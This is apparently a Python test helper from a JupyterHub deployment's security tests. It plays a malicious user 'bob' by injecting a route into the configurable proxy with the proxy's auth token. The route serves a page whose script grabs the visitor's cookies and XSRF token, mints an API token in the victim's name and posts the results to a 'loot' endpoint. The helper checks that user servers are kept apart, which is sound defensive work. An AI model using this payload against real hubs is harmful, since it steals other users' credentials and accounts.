"""A page of bob's that uses the login of whoever opens it, and what it got hold of.

It stands where bob's server should: any process of his in the job can be quicker than the server
and tell the hub its own port. Here the proxy is told so directly.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx

from sitekit.contracts.internal_tls import client_context, proxy_api_url
from sitekit.site import Site

PAGE = """<!doctype html><title>bob</title><h1>bob's page</h1><script>
async function act() {
  const found = {cookies: document.cookie, origin: location.origin};
  try {
    const page = await (await fetch(HUB + "/hub/token", {credentials: "include"})).text();
    const xsrf = (page.match(/xsrf_token: "([^"]+)"/) || [])[1] || "";
    const answer = await fetch(HUB + "/hub/api/users/" + VICTIM + "/tokens", {
      method: "POST", credentials: "include", body: JSON.stringify({note: "stolen", expires_in: 600}),
      headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"}});
    found.token = answer.status;
  } catch (error) { found.token = String(error); }
  await fetch("loot", {method: "POST", body: JSON.stringify(found)});
  document.title = "done";
}
act();
</script>"""


class Evil:
    """What reaches it: `requests` as (method, path, headers), `loot` as the page reports it."""

    def __init__(self, hub: str, victim: str) -> None:
        requests, loot = self.requests, self.loot = [], []
        page = PAGE.replace("HUB", json.dumps(hub)).replace("VICTIM", json.dumps(victim)).encode()

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                requests.append((self.command, self.path, self.headers))
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                if self.command == "POST" and self.path.endswith("/loot"):
                    loot.append(json.loads(body))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            do_POST = do_OPTIONS = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)

    @property
    def cookies(self) -> set[str]:
        """The names of all cookies that it was sent."""
        sent = "; ".join(headers.get("Cookie", "") for _, _, headers in self.requests)
        return {cookie.split("=")[0] for cookie in sent.split("; ") if cookie}


@contextmanager
def evil(site: Site, path: str, victim: str) -> Iterator[Evil]:
    """At `path` of the proxy, as bob's server. JupyterHub leaves a route alone that is not marked
    as its own."""
    found = Evil(site.front.url, victim)
    threading.Thread(target=found.server.serve_forever, daemon=True).start()
    told = {
        "target": f"http://127.0.0.1:{found.server.server_port}",
        "user": "bob",
        "server_name": "",
    }
    try:
        _route(site, "POST", path, told)
        yield found
    finally:
        _route(site, "DELETE", path)
        found.server.shutdown()
        found.server.server_close()


def _route(site: Site, method: str, path: str, told: object = None) -> None:
    token = (site.etc / "proxy.env").read_text().strip().split("=", 1)[1]
    url = f"{proxy_api_url(site)}/api/routes{path}"
    body = None if told is None else json.dumps(told).encode()
    headers = {"Authorization": f"token {token}"}
    known = {"verify": client_context(site, "hub"), "timeout": 60}
    httpx.request(method, url, content=body, headers=headers, **known).raise_for_status()
